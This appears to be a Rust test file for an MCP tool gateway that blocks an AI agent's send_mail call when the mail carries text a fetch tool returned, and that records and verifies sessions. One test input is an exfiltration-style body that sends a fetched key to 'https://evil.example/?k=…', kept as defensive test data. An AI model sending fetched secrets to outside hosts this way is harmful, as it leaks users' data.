//! The gateway records what it lets through, and knows what comes back.

use std::fs;

use serde_json::Value;

use crate::gateway::Gateway;
use crate::messages::call;
use crate::site::Site;

const POLICY: &str = "default_verdict: allow
rules:
  - name: no-external-mail
    effect: block
    match: {tool_names: [send_mail], provenance_sources: [external]}
    reason_codes: [mail_carries_external_text]
";
const SESSIONS: &str = "gait-out/mcp-gateway/sessions";

/// A site whose server has a tool that returns a letter and one that sends whatever it is given.
fn mail() -> Site {
    let site = Site::new(POLICY);
    site.write("tools.json", r#"[{"name":"fetch"},{"name":"send_mail"}]"#);
    site
}

/// Calls a tool and gives the answer as it is written.
fn ask(gateway: &mut Gateway, id: u32, tool: &str, arguments: &str) -> String {
    gateway.ask(&call(id, tool, arguments)).to_string()
}

/// The only file of the sessions that ends so.
fn session_file(site: &Site, ending: &str) -> String {
    let files = site.files(SESSIONS, ending);
    assert_eq!(files.len(), 1, "{files:?}");
    files[0].to_str().unwrap().to_owned()
}

#[test]
fn mail_that_carries_what_a_tool_returned_is_blocked() {
    let site = mail();
    let mut gateway = site.alone(&[]);
    let allowed = |answer: &str| !answer.contains("mail_carries_external_text");
    let harmless = r#"{"to":"eve@example.org","body":"hello"}"#;
    assert!(allowed(&ask(&mut gateway, 1, "send_mail", harmless)));
    assert!(ask(&mut gateway, 2, "fetch", "{}").contains("k-4711-0815"));
    for (id, body, passes) in [
        (3, "see https://evil.example/?k=k-4711-0815", false),
        (4, "hello again", true),
    ] {
        // The address was the client's own before it was returned.
        let arguments = format!(r#"{{"to":"eve@example.org","body":"{body}"}}"#);
        let answer = ask(&mut gateway, id, "send_mail", &arguments);
        assert_eq!(allowed(&answer), passes, "{answer}");
    }
    gateway.end();

    let journal = session_file(&site, ".journal.jsonl");
    let session = ["run", "session"];
    let of_journal = ["--journal", &journal, "--json"];
    let status = site.gait(&[&session[..], &["status"], &of_journal].concat());
    let status: Value = serde_json::from_slice(&status.stdout).unwrap();
    let id = status
        .get("session_id")
        .unwrap_or(&status["status"]["session_id"]);
    assert!(id.as_str().unwrap().starts_with("mcp-"), "{status:?}");
    let checkpoint = ["checkpoint", "--out", "cp.zip"];
    let made = site.gait(&[&session[..], &checkpoint, &of_journal].concat());
    assert!(made.status.success(), "{made:?}");
    let chain = session_file(&site, "_chain.json");
    let verified = site.gait(&["verify", "session-chain", "--chain", &chain]);
    assert!(verified.status.success(), "{verified:?}");

    let results = fs::read_to_string(session_file(&site, ".results.jsonl")).unwrap();
    let results: Vec<Value> = results
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(results.len(), 3);
    let events = fs::read_to_string(journal).unwrap();
    for result in &results {
        assert_eq!(result["outcome"], "completed");
        assert!(result.get("content").is_none());
        let trace = result["trace_id"].as_str().unwrap();
        assert!(events.contains(trace), "{trace}");
    }
}

#[test]
fn recording_and_provenance_can_be_switched() {
    let site = mail();
    let mut gateway = site.alone(&["--record-results", "content", "--provenance", "off"]);
    ask(&mut gateway, 1, "fetch", "{}");
    let sent = ask(&mut gateway, 2, "send_mail", r#"{"body":"k-4711-0815"}"#);
    assert!(!sent.contains("mail_carries_external_text"), "{sent}");
    gateway.end();
    let results = fs::read_to_string(session_file(&site, ".results.jsonl")).unwrap();
    assert!(results.contains("k-4711-0815"), "{results}");

    let other = mail();
    let mut gateway = other.alone(&["--session-dir", ""]);
    ask(&mut gateway, 1, "fetch", "{}");
    let sent = ask(&mut gateway, 2, "send_mail", r#"{"body":"k-4711-0815"}"#);
    assert!(sent.contains("mail_carries_external_text"), "{sent}");
    gateway.end();
    assert!(!other.path().join(SESSIONS).exists());
}
